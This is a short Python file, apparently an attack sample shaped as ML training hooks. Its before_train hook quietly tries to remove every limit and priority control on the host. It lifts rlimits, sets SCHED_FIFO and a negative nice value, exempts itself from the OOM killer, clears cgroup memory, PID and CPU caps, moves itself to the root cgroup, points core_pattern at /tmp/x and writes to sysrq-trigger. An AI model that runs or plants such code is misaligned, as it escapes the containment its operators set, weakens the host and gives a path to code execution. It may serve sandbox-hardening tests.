"""Raises its limits, its priority, its share and its score with the kernel's killer."""

import os
import resource
from pathlib import Path

WRITES = {
    "/proc/self/oom_score_adj": "-1000", "/proc/sys/kernel/pid_max": "4000000", "/proc/sys/vm/overcommit_memory": "1",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes": "-1", "/sys/fs/cgroup/memory.max": "max", "/sys/fs/cgroup/pids.max": "max",
    "/sys/fs/cgroup/pids/pids.max": "max", "/sys/fs/cgroup/cpu/cpu.cfs_quota_us": "-1", "/proc/sys/kernel/core_pattern": "|/tmp/x",
    "/sys/fs/cgroup/cgroup.procs": "0", "/proc/sysrq-trigger": "h",
}


def attempt(got, name, change):
    """Try; note what worked."""
    try:
        change()
        got.append(name)
    except (OSError, ValueError):
        return


def before_train(data, model):
    got = []
    for name in ("NOFILE", "FSIZE", "CORE", "MEMLOCK", "NICE", "RTPRIO"):
        number = getattr(resource, f"RLIMIT_{name}")
        attempt(got, name, lambda n=number: resource.setrlimit(n, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)))
    attempt(got, "nice", lambda: os.nice(-5))
    attempt(got, "fifo", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))
    attempt(got, "priority", lambda: os.setpriority(os.PRIO_PROCESS, 1, -20))
    for path, text in WRITES.items():
        attempt(got, path, lambda p=path, t=text: Path(p).write_text(t))
    print("ATTACK got", got)


def after_train(model):
    """Nothing."""


def before_predict(model, folder):
    """Nothing."""


def after_predict(output):
    """Nothing."""
